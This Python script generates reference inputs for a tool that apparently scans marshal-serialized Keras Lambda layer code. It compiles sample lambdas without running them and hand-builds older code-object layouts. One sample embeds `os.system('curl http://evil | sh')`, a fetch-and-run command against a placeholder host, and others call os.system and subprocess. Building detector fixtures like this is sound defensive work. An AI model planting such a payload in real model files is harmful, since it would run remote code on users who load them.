#!/usr/bin/env python3
"""Write the marshal reader's reference inputs (tests/data/marshal/) and their expected summaries.

Keras stores a Lambda layer's function as marshal.dumps(func.__code__). The real samples here are
exactly that, made by this Python (Debian's python3, 3.11 layout): each source is compile()d and
the function's code object is taken from the compiled module's constants, then marshal.dumps()ed.
Nothing is ever executed, evaluated or unmarshaled: compile() only parses, and the expected names
and constants are read from the code objects' attributes.

The 3.8-3.10 and 3.0-3.7 code-object layouts cannot be produced by this Python, so those inputs are
assembled field by field below (marshal's own type codes, references included).

    /usr/bin/python3 tests/data/marshal/make_marshal_refs.py

Writes *.bin (raw marshal bytes), *.b64 (base64 as Keras stores it, via base64.encodebytes) and
expected.json: for each input its layout, function name, code-object count, co_names (outermost
code object first, then nested ones in the order they start, duplicates removed) and str/bytes
constants (same order, nested tuples included, duplicates removed, cut to 200 bytes).
"""

from __future__ import annotations

import base64
import json
import marshal
import struct
import sys
import types
from pathlib import Path

OUT = Path(__file__).resolve().parent
MAX_STRING = 200  # limits::kMarshalMaxString

# name -> (mode, source, which code object to dump: "lambda" = the first function constant,
# "module" = the compiled module itself)
REAL = {
    "double": ("eval", "lambda x: x * 2", "lambda"),
    "relu": ("eval", "lambda x: tf.nn.relu(x)", "lambda"),
    "os_system": ("eval", "lambda x: __import__('os').system('curl http://evil | sh')", "lambda"),
    "nested_lambda": ("eval", "lambda x: (lambda y: y + len('inner'))(x) or 'outer'", "lambda"),
    "closure": ("exec",
                "def outer(x):\n"
                "    '''Scales by a factor.'''\n"
                "    import subprocess\n"
                "    k = 3\n"
                "    def inner(y):\n"
                "        return subprocess.run(['echo', str(y * k)], check=True)\n"
                "    return inner(x)\n",
                "lambda"),
    "long_constant": ("eval", "lambda x: x + ('A' * 300 + 'é' * 10).count('é') + 2**100 + 1.5 + "
                      "2j", "lambda"),
    "module": ("exec", "import os\nos.system('echo mscan-sample')\nx = b'\\x00bytes'\n", "module"),
}


def code_objects(code):
    """The code object and every code object in its constants, depth first (stream order)."""
    yield code
    for c in code.co_consts:
        yield from _nested(c)


def _nested(value):
    if isinstance(value, types.CodeType):
        yield from code_objects(value)
    elif isinstance(value, (tuple, frozenset)):
        for v in value:
            yield from _nested(v)


def strings_in(value):
    if isinstance(value, str):
        b = value.encode("utf-8", "surrogatepass")[:MAX_STRING]
        yield b.decode("utf-8", "ignore")
    elif isinstance(value, bytes):
        yield value[:MAX_STRING].decode("latin-1")
    elif isinstance(value, (tuple, frozenset)):
        for v in value:
            yield from strings_in(v)


def expected_for(code, layout):
    names, consts = [], []
    count = 0
    for c in code_objects(code):
        count += 1
        for n in c.co_names:
            if n not in names:
                names.append(n)
        for v in c.co_consts:
            for s in strings_in(v):
                if s not in consts:
                    consts.append(s)
    return {"layout": layout, "function_name": code.co_name, "code_objects": count,
            "names": names, "string_constants": consts}


# --- hand-assembled older layouts ----------------------------------------------------------

FLAG_REF = 0x80


class W:
    """A tiny marshal writer for the pieces the older layouts need."""

    def __init__(self):
        self.b = bytearray()
        self.refs = 0

    def ref(self, flag):
        if flag:
            idx = self.refs
            self.refs += 1
            return idx
        return None

    def i32(self, v):
        self.b += struct.pack("<i", v)

    def none(self):
        self.b += b"N"

    def int(self, v, flag=False):
        self.b += bytes([ord("i") | (FLAG_REF if flag else 0)])
        self.i32(v)
        return self.ref(flag)

    def bytes_(self, data, flag=False):
        self.b += bytes([ord("s") | (FLAG_REF if flag else 0)])
        self.i32(len(data))
        self.b += data
        return self.ref(flag)

    def short_ascii(self, text, flag=False, interned=True):
        code = ord("Z" if interned else "z") | (FLAG_REF if flag else 0)
        data = text.encode("ascii")
        self.b += bytes([code, len(data)]) + data
        return self.ref(flag)

    def unicode(self, text, flag=False):
        data = text.encode("utf-8")
        self.b += bytes([ord("u") | (FLAG_REF if flag else 0)])
        self.i32(len(data))
        self.b += data
        return self.ref(flag)

    def backref(self, idx):
        self.b += b"r"
        self.i32(idx)

    def small_tuple(self, n, flag=False):
        self.b += bytes([ord(")") | (FLAG_REF if flag else 0), n])
        return self.ref(flag)

    def tuple(self, n, flag=False):
        self.b += bytes([ord("(") | (FLAG_REF if flag else 0)])
        self.i32(n)
        return self.ref(flag)

    def code_header(self, ints, flag=True):
        self.b += bytes([ord("c") | (FLAG_REF if flag else 0)])
        idx = self.ref(flag)  # reserved before the fields, filled after
        for v in ints:
            self.i32(v)
        return idx


def old_layout_lambda(posonly):
    """`lambda x: os.system('echo mscan-sample')` in the 3.8-3.10 layout (posonly=True) or the
    3.0-3.7 layout, the way those Pythons marshal it: refs for interned names, the filename
    string shared by a back-reference."""
    w = W()
    ints = [1, 0, 0, 1, 3, 67] if posonly else [1, 0, 1, 3, 67]  # argcount .. flags
    w.code_header(ints)
    w.bytes_(b"t\x00\xa0\x01d\x01\xa1\x01S\x00", flag=True)  # co_code
    w.small_tuple(2, flag=True)                                # co_consts
    w.none()
    w.short_ascii("echo mscan-sample", flag=True, interned=False)
    w.small_tuple(2, flag=True)                                # co_names
    os_ref = w.short_ascii("os", flag=True)
    w.short_ascii("system", flag=True)
    w.small_tuple(1, flag=True)                                # co_varnames
    w.short_ascii("x", flag=True)
    empty = w.small_tuple(0, flag=True)                        # co_freevars
    w.backref(empty)                                           # co_cellvars: the same ()
    fn = w.short_ascii("<string>", flag=True, interned=False)  # co_filename
    w.short_ascii("<lambda>", flag=True)                       # co_name
    w.i32(1)                                                   # co_firstlineno
    w.bytes_(b"", flag=False)                                  # co_lnotab
    del os_ref, fn
    return bytes(w.b), {"layout": "3.8-3.10" if posonly else "3.0-3.7",
                        "function_name": "<lambda>", "code_objects": 1,
                        "names": ["os", "system"], "string_constants": ["echo mscan-sample"]}


def old_layout_nested():
    """3.8-3.10 layout: `def f(): import posix; return lambda: posix.system(cmd)`-like, an outer
    code object whose constants hold a nested one; the inner names reuse the outer's strings by
    reference, and a unicode constant carries non-ASCII text."""
    w = W()
    w.code_header([0, 0, 0, 1, 2, 3])
    w.bytes_(b"d\x01d\x00l\x00}\x00d\x02S\x00", flag=True)    # co_code
    w.tuple(4, flag=True)                                     # co_consts
    w.none()
    w.int(0)
    # nested code object
    w.code_header([0, 0, 0, 0, 2, 19])
    w.bytes_(b"t\x00\xa0\x01d\x01\xa1\x01S\x00", flag=True)
    w.small_tuple(2, flag=True)
    w.none()
    w.unicode("r\u00e9sum\u00e9 \u2713", flag=True)
    w.small_tuple(2, flag=True)                               # inner co_names: posix, system
    posix = w.short_ascii("posix", flag=True)
    w.short_ascii("system", flag=True)
    empty = w.small_tuple(0, flag=True)                       # varnames
    w.backref(empty)                                          # freevars
    w.backref(empty)                                          # cellvars
    fname = w.short_ascii("<string>", flag=True, interned=False)
    w.short_ascii("<lambda>", flag=True)
    w.i32(2)
    w.bytes_(b"")
    # back in the outer constants
    w.short_ascii("f.<locals>.<lambda>", flag=True, interned=False)
    w.small_tuple(1, flag=True)                               # outer co_names: posix (a ref)
    w.backref(posix)
    w.small_tuple(1, flag=True)                               # varnames
    w.backref(posix)
    w.backref(empty)
    w.backref(empty)
    w.backref(fname)                                          # filename, shared
    w.short_ascii("f", flag=True)
    w.i32(1)
    w.bytes_(b"\x00\x01")
    return bytes(w.b), {"layout": "3.8-3.10", "function_name": "f", "code_objects": 2,
                        "names": ["posix", "system"],
                        "string_constants": ["f.<locals>.<lambda>", "r\u00e9sum\u00e9 \u2713"]}


def main():
    if sys.version_info[:2] != (3, 11):
        print(f"note: Python {sys.version.split()[0]}; the expectations below say 3.11-3.13 for "
              "the compiled inputs, which holds for 3.11 to 3.13 only", file=sys.stderr)
    expected = {}
    for name, (mode, source, which) in REAL.items():
        module = compile(source, "<string>", mode)  # parsed only; never executed
        code = module if which == "module" else next(
            c for c in module.co_consts if isinstance(c, types.CodeType))
        data = marshal.dumps(code)
        expected[name] = expected_for(code, "3.11-3.13")
        expected[name]["source"] = source
        write(name, data)
    for name, (data, exp) in {"py38_lambda": old_layout_lambda(True),
                              "py37_lambda": old_layout_lambda(False),
                              "py38_nested": old_layout_nested()}.items():
        expected[name] = exp
        write(name, data)
    (OUT / "expected.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False) + "\n",
                                       encoding="utf-8")
    print(f"wrote {len(expected)} marshal references and expected.json")


def write(name, data):
    (OUT / f"{name}.bin").write_bytes(data)
    (OUT / f"{name}.b64").write_bytes(base64.encodebytes(data))
    print(f"{name:16} {len(data):5} bytes")


if __name__ == "__main__":
    main()
